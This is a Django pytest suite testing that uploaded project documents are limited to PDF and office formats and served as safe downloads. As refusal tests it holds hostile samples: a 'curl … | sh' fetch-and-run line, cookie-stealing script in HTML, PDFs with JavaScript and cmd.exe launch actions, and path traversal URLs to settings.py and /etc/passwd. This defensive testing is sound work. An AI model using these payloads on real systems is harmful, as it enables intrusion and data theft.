"""Uploaded documents (issue 17): PDF and office formats only, known by content, size-limited, served as downloads."""

import io
import os
import re
import struct
import zipfile

import pytest
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import FileResponse
from django.test import Client, override_settings
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from core.documents import formats
from projects.models import Project, Result, ResultKind
from tests.factories import image_upload, make_project
from tests.test_admin import admin_url, assert_refused, management_form, project_data

pytestmark = pytest.mark.django_db

documents = storages["documents"]


# Builders: each makes the bytes of a small but real file of its kind, as the programs that write them do.

def pdf(text="Piano d'azione", catalog=b"", page=b""):
    """A one-page PDF, its cross-reference table pointing at each object; ``catalog`` and ``page`` add to those."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


OOXML_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml",
             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
}


def ooxml(kind="docx", content_type=None, extra=()):
    """A Word, Excel or PowerPoint package: its index, its relationships and its main part."""
    part, main_type = OOXML_MAIN[kind]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/{part}" ContentType="{content_type or main_type}"/>'
            "</Types>"
        ))
        package.writestr("_rels/.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="' + part + '" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument"/></Relationships>'
        ))
        package.writestr(part, "<document>Piano d'azione</document>")
        for name, data in extra:
            package.writestr(name, data)
    return buffer.getvalue()


def odf(kind="text", extra=()):
    """An OpenDocument file: its ``mimetype`` first and stored as it is, as the standard asks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), f"application/vnd.oasis.opendocument.{kind}",
                         compress_type=zipfile.ZIP_STORED)
        package.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                                                  'opendocument:xmlns:manifest:1.0"/>')
        package.writestr("content.xml", "<office:document-content/>")
        for name, data in extra:
            package.writestr(name, data)
    return buffer.getvalue()


def compound(*streams):
    """An Office 97–2003 file (an OLE2 compound file of 512-byte sectors) holding empty ``streams``.

    Sector 0 is the allocation table, sector 1 the directory: the root entry, then the streams as its
    children, chained by their right siblings.
    """
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 0x2C, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *[free] * 108)
    fat = struct.pack("<128I", 0xFFFFFFFD, end, *[free] * 126)

    def entry(name, kind, right=free, child=free):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (encoded.ljust(64, b"\x00") + struct.pack("<HBB", len(encoded), kind, 1)
                + struct.pack("<III", free, right, child) + bytes(36) + struct.pack("<IQ", end, 0))

    entries = [entry("Root Entry", 5, child=1 if streams else free)]
    for number, name in enumerate(streams, start=1):
        entries.append(entry(name, 2, right=number + 1 if number < len(streams) else free))
    assert len(entries) <= 4
    directory = b"".join(entries).ljust(512, b"\x00")
    return bytes(header) + fat + directory


def zip_of(*members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type)


def stored_files():
    return sorted(
        os.path.relpath(os.path.join(folder, name), documents.location)
        for folder, _folders, names in os.walk(documents.location) for name in names
    )


def result_data(project, **fields):
    data = {
        "project": project.pk, "kind": ResultKind.PLAN, "date": "2021-01-15", "language": "it",
        "title_it": "Piano d'azione per l'energia", "title_en": "Energy action plan",
        "description_it": "", "description_en": "", "url": "", "doi": "", "is_published": "on",
    }
    data.update(fields)
    return data


@pytest.fixture
def smartencity():
    return make_project(acronym="SmartEnCity", slug="smartencity", title="Towards Smart Zero CO2 Cities")


def add_result(editor_client, project, **fields):
    return editor_client.post(admin_url("projects", "result", "add"), result_data(project, **fields))


# Uploading through the admin, as an editor (not a superuser) does.

@pytest.mark.parametrize("name, data, extension", [
    ("Piano d'azione.pdf", pdf(), "pdf"),
    ("Piano.docx", ooxml("docx"), "docx"),
    ("Bilancio.xlsx", ooxml("xlsx"), "xlsx"),
    ("Presentazione.pptx", ooxml("pptx"), "pptx"),
    ("Piano.odt", odf("text"), "odt"),
    ("Bilancio.ods", odf("spreadsheet"), "ods"),
    ("Presentazione.odp", odf("presentation"), "odp"),
    ("Vecchio piano.doc", compound("WordDocument", "1Table"), "doc"),
    ("Vecchio bilancio.xls", compound("Workbook"), "xls"),
    ("Vecchia presentazione.ppt", compound("Current User", "PowerPoint Document"), "ppt"),
], ids=["pdf", "docx", "xlsx", "pptx", "odt", "ods", "odp", "doc", "xls", "ppt"])
def test_pdf_and_office_documents_are_stored_under_a_random_name(editor_client, smartencity, name, data, extension):
    response = add_result(editor_client, smartencity, document=upload(name, data))
    assert response.status_code == 302
    result = Result.objects.get()
    assert re.fullmatch(rf"results/[0-9a-f]{{32}}\.{extension}", result.document.name)
    with documents.open(result.document.name) as stored:
        assert stored.read() == data


def test_a_document_is_stored_as_what_it_is_not_as_what_its_name_says(editor_client, smartencity):
    assert add_result(editor_client, smartencity, document=upload("Piano.pdf", ooxml("docx"))).status_code == 302
    assert Result.objects.get().document.name.endswith(".docx")


BOMB = ooxml("docx", extra=[("word/media/padding.bin", bytes(30 * 1024 * 1024))])


@pytest.mark.parametrize("document, message", [
    (upload("Piano.pdf", b"<!DOCTYPE html>\n<html><head><title>Piano</title></head>"
                         b"<body><script>alert(document.cookie)</script></body></html>", "application/pdf"),
     "This file is a web page (HTML), not a PDF or an office document"),
    (upload("Piano.pdf", b"%PDF-1.7\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"),
     "This file is a web page (HTML), not a PDF or an office document"),
    (upload("Piano.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200), "application/pdf"),
     "This file is a program, not a document"),
    (upload("Piano.docx", b"\x7fELF\x02\x01\x01\x00" + bytes(200)), "This file is a program, not a document"),
    (upload("Piano.doc", b"#!/bin/sh\ncurl https://example.org/x | sh\n"), "This file is a program, not a document"),
    (image_upload("Piano.pdf"), "This file is a picture, not a document"),
    (upload("Piano.zip", zip_of(("piano.txt", "Piano d'azione"), ("bilancio.csv", "1,2,3"))),
     "This file is a ZIP archive, not an office document"),
    (upload("Piano.docx", BOMB), "This file would unpack to far more than any document of its size"),
    (upload("Piano.docm", ooxml("docx", content_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                                extra=[("word/vbaProject.bin", b"\x00" * 64)])),
     "This document contains macros"),
    (upload("Piano.odt", odf("text", extra=[("Basic/Standard/Module1.xml", "<script:module/>")])),
     "This document contains macros"),
    (upload("Piano.doc", compound("WordDocument", "Macros")), "This document contains macros"),
    (upload("Setup.msi", compound("SummaryInformation")), "This office file is not of a kind accepted"),
    (upload("Modello.dotx", ooxml("docx", content_type="application/vnd.openxmlformats-officedocument."
                                                      "wordprocessingml.template.main+xml")),
     "This office file is not of a kind accepted"),
    (upload("Piano.pdf", pdf()[:-200]), "cannot be read: it may be damaged or incomplete"),
    (upload("Piano.doc", compound("WordDocument")[:600]), "cannot be read: it may be damaged or incomplete"),
    (upload("Piano.docx", compound("EncryptedInfo", "EncryptedPackage")), "protected by a password"),
    (upload("Piano.txt", b"Piano d'azione per l'energia"),
     "Upload a PDF, a Word, Excel or PowerPoint document (.docx, .xlsx, .pptx, or the older .doc, .xls, .ppt)"),
], ids=["html-as-pdf", "html-after-pdf-header", "windows-program", "linux-program", "script", "picture", "zip",
        "zip-bomb", "word-macros", "opendocument-macros", "word-97-macros", "installer", "template", "truncated-pdf",
        "truncated-doc", "password", "text"])
def test_other_files_are_refused_with_a_message_and_nothing_stored(editor_client, smartencity, document, message):
    before = stored_files()
    response = add_result(editor_client, smartencity, document=document)
    assert_refused(response, message)
    assert not Result.objects.exists()
    assert stored_files() == before


def written_by_pypdf(change=None):
    """A PDF as a program writes one, ``change(writer)`` made to it first."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


SCRIPT = b"<< /S /JavaScript /JS (app.launchURL('https://example.org/', true);) >>"


@pytest.mark.parametrize("data", [
    pdf(catalog=b"/OpenAction " + SCRIPT),
    pdf(catalog=b"/OpenAction << /S /Java#53cript /JS (app.alert(1)) >>"),
    pdf(catalog=b"/OpenAction << /S /Launch /F (C:\\Windows\\System32\\cmd.exe) >>"),
    pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> " + SCRIPT + b"] >>"),
    pdf(catalog=b"/AA << /WC " + SCRIPT + b" >>"),
    pdf(catalog=b"/Names << /JavaScript << /Names [(x) " + SCRIPT + b"] >> >>"),
    pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    pdf(catalog=b"/AcroForm << /Fields [] /XFA [(template) (<template/>)] >>"),
    pdf(page=b"/AA << /O " + SCRIPT + b" >>"),
    pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://example.org) "
             b"/Next << /S /Launch /F (setup.exe) >> >> >>]"),
    pdf(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (invoice.exe) >>]"),
    pdf(page=b"/Annots [<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Fo " + SCRIPT + b" >> >>]"),
    written_by_pypdf(lambda writer: writer.add_open_action(JavaScript("app.alert('hi');"))),
    written_by_pypdf(lambda writer: writer.add_attachment("fattura.exe", b"MZ\x90\x00")),
], ids=["opening-script", "escaped-name", "launch", "chained", "document-action", "document-scripts",
        "embedded-files", "xfa", "page-action", "link-then-launch", "file-attachment", "field-action",
        "pypdf-script", "pypdf-attachment"])
def test_a_pdf_with_scripts_embedded_files_or_launch_actions_is_refused(editor_client, smartencity, data):
    before = stored_files()
    response = add_result(editor_client, smartencity, document=upload("Piano.pdf", data))
    assert_refused(response, "This PDF contains scripts, embedded files or actions that launch programs")
    assert not Result.objects.exists() and stored_files() == before


def test_a_pdf_that_opens_only_with_a_password_is_refused(editor_client, smartencity):
    data = written_by_pypdf(lambda writer: writer.encrypt(user_password="segreto", owner_password="segreto"))
    assert_refused(add_result(editor_client, smartencity, document=upload("Piano.pdf", data)), "protected by a password")
    assert not Result.objects.exists()


@pytest.mark.parametrize("data", [
    pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /URI /URI (https://example.org) "
             b">> >>]"),
    pdf(catalog=b"/OpenAction [3 0 R /Fit]"),
    written_by_pypdf(lambda writer: writer.encrypt(user_password="", owner_password="segreto")),
], ids=["web-link", "opens-at-its-page", "owner-password-only"])
def test_a_pdf_with_web_links_or_an_owners_password_alone_is_accepted(editor_client, smartencity, data):
    assert add_result(editor_client, smartencity, document=upload("Piano.pdf", data)).status_code == 302
    assert Result.objects.get().document.name.endswith(".pdf")


SAMPLES = [pdf(), ooxml("xlsx"), odf("text"), compound("WordDocument", "1Table", "Macros")]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(sample=st.sampled_from(SAMPLES), changes=st.lists(st.tuples(st.integers(0, 10**5), st.integers(0, 255)),
                                                         max_size=6), cut=st.integers(0, 10**5))
def test_a_damaged_file_is_refused_with_a_message_never_an_error(sample, changes, cut):
    data = bytearray(sample[:max(cut % (len(sample) + 1), 1)])
    for position, value in changes:
        data[position % len(data)] = value
    try:
        formats.identify(ContentFile(bytes(data), name="x"))
    except ValidationError as refusal:
        assert refusal.messages


@override_settings(DOCUMENT_MAX_SIZE=1024)
def test_a_document_over_the_limit_is_refused_and_the_help_text_states_the_limit(editor_client, smartencity):
    before = stored_files()
    response = add_result(editor_client, smartencity, document=upload("Piano.pdf", pdf("x" * 2000)))
    assert_refused(response, "the largest document accepted is 1.0\xa0KB")
    assert not Result.objects.exists()
    assert stored_files() == before
    form = editor_client.get(admin_url("projects", "result", "add")).content.decode()
    assert "A PDF or an office document (Word, Excel, PowerPoint, OpenDocument), at most 1.0\xa0KB." in form


def test_the_help_text_states_the_limit_in_force(editor_client):
    form = editor_client.get(admin_url("projects", "result", "add")).content.decode()
    assert "at most 20.0\xa0MB." in form


def test_an_editor_adds_a_linked_result_and_an_uploaded_one(editor_client, smartencity):
    assert not User.objects.get(username="editor").is_superuser
    linked = add_result(editor_client, smartencity, url="https://example.org/piano", title_en="Linked plan")
    uploaded = add_result(editor_client, smartencity, document=upload("Piano.pdf", pdf()), title_en="Uploaded plan")
    assert linked.status_code == uploaded.status_code == 302
    results = {result.title_en: result for result in Result.objects.all()}
    assert results["Linked plan"].url == "https://example.org/piano" and not results["Linked plan"].document
    assert results["Uploaded plan"].document.name.endswith(".pdf") and results["Uploaded plan"].url == ""


def test_a_document_is_checked_in_the_projects_results_too(editor_client):
    def project_with_result(document):
        row = {"id": "", "project": "", "kind": ResultKind.REPORT, "date": "", "language": "", "title_it": "Relazione",
               "title_en": "", "description_it": "", "description_en": "", "url": "", "doi": "",
               "is_published": "on", "document": document}
        return editor_client.post(admin_url("projects", "project", "add"), project_data(
            **management_form("results", total=1), **{f"results-0-{name}": value for name, value in row.items()},
        ))

    assert_refused(project_with_result(upload("Relazione.pdf", b"<html><body>Relazione</body></html>")),
                   "This file is a web page (HTML)")
    assert not Project.objects.filter(slug="newprj").exists()
    assert project_with_result(upload("Relazione.pdf", pdf())).status_code == 302
    assert Project.objects.get(slug="newprj").results.get().document.name.endswith(".pdf")


def test_a_result_needs_a_link_or_a_document(editor_client, smartencity):
    assert_refused(add_result(editor_client, smartencity), "Give a link or upload a document.")


def test_saving_a_result_again_does_not_check_its_stored_document_again(editor_client, smartencity):
    assert add_result(editor_client, smartencity, document=upload("Piano.pdf", pdf("x" * 2000))).status_code == 302
    result = Result.objects.get()
    with override_settings(DOCUMENT_MAX_SIZE=1024):  # lowered since it was uploaded
        response = editor_client.post(admin_url("projects", "result", "change", result.pk),
                                      result_data(smartencity, title_en="Energy action plan, final"))
    assert response.status_code == 302
    result.refresh_from_db()
    assert result.title_en == "Energy action plan, final" and result.document.name.endswith(".pdf")


# Serving: as downloads of the type recognised, which no browser displays or runs.

def make_result(project, document, **fields):
    fields.setdefault("kind", ResultKind.REPORT)
    fields.setdefault("title", "Final report: the district's energy")
    return Result.objects.create(project=project, document=document, **fields)


def content_of(response):
    assert isinstance(response, FileResponse)
    return b"".join(response.streaming_content)


def test_a_published_document_is_served_as_a_download_that_no_browser_runs(client, smartencity):
    result = make_result(smartencity, upload("x.pdf", pdf()))
    assert result.document.url == f"/documents/{result.document.name}" == reverse(
        "document", kwargs={"name": result.document.name})
    response = client.get(result.document.url)
    assert response.status_code == 200
    assert content_of(response) == pdf()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="final-report-the-districts-energy.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert "no-store" in response["Cache-Control"]


def test_the_project_page_links_to_the_download(client, smartencity):
    result = make_result(smartencity, upload("x.pdf", pdf()))
    page = client.get(smartencity.get_absolute_url()).content.decode()
    assert f'href="/documents/{result.document.name}"' in page
    assert client.get(f"/documents/{result.document.name}").status_code == 200


@pytest.mark.parametrize("name, data, content_type", [
    ("x.docx", ooxml("docx"), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("x.ods", odf("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet"),
    ("x.ppt", compound("PowerPoint Document"), "application/vnd.ms-powerpoint"),
])
def test_each_document_is_served_with_the_type_it_was_recognised_as(client, smartencity, name, data, content_type):
    result = make_result(smartencity, upload(name, data, "text/html"))
    response = client.get(result.document.url)
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert content_of(response) == data


def test_a_document_stored_unchecked_is_served_as_bytes_to_save(client, smartencity):
    name = documents.save("results/unchecked.html", io.BytesIO(b"<html><script>alert(1)</script></html>"))
    result = make_result(smartencity, upload("x.pdf", pdf()))
    Result.objects.filter(pk=result.pk).update(document=name)
    response = client.get(f"/documents/{name}")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == 'attachment; filename="final-report-the-districts-energy.bin"'
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_an_unpublished_document_is_shown_to_editors_only(editor_client, smartencity):
    hidden = make_result(smartencity, upload("x.pdf", pdf()), is_published=False)
    assert Client().get(hidden.document.url).status_code == 404
    assert editor_client.get(hidden.document.url).status_code == 200  # to check it before publishing it

    intern = Client()
    intern.force_login(User.objects.create_user("intern", is_staff=True))  # staff, but may not change results
    assert intern.get(hidden.document.url).status_code == 404


def test_the_document_of_an_unpublished_project_is_not_served(client, smartencity):
    result = make_result(smartencity, upload("x.pdf", pdf()))
    smartencity.is_published = False
    smartencity.save()
    assert client.get(result.document.url).status_code == 404


def test_only_the_names_results_hold_are_served(client, smartencity):
    result = make_result(smartencity, upload("x.pdf", pdf()))
    other = documents.save("results/not-a-result.pdf", io.BytesIO(pdf()))  # stored, but no result names it
    assert client.get(f"/documents/{other}").status_code == 404
    assert client.get("/documents/results/0123456789abcdef0123456789abcdef.pdf").status_code == 404
    assert client.get(f"/documents/{result.document.name}x").status_code == 404


@pytest.mark.parametrize("path", [
    "/documents/results/../../lecce/settings.py",
    "/documents/%2e%2e/%2e%2e/lecce/settings.py",
    "/documents/results/..%2f..%2flecce%2fsettings.py",
    "/documents//etc/passwd",
    "/documents/results\\..\\..\\lecce\\settings.py",
])
def test_no_name_leads_out_of_the_documents(client, path):
    assert client.get(path).status_code == 404


def test_a_result_naming_a_file_outside_the_documents_does_not_serve_it(editor_client, smartencity, tmp_path):
    outside = tmp_path / "outside.pdf"
    outside.write_bytes(pdf())
    name = os.path.relpath(outside, documents.location)
    assert name.startswith("../")
    result = make_result(smartencity, upload("x.pdf", pdf()))
    Result.objects.filter(pk=result.pk).update(document=name)
    assert Client().get(f"/documents/{name}").status_code == 404
    assert editor_client.get(f"/documents/{name}").status_code == 404
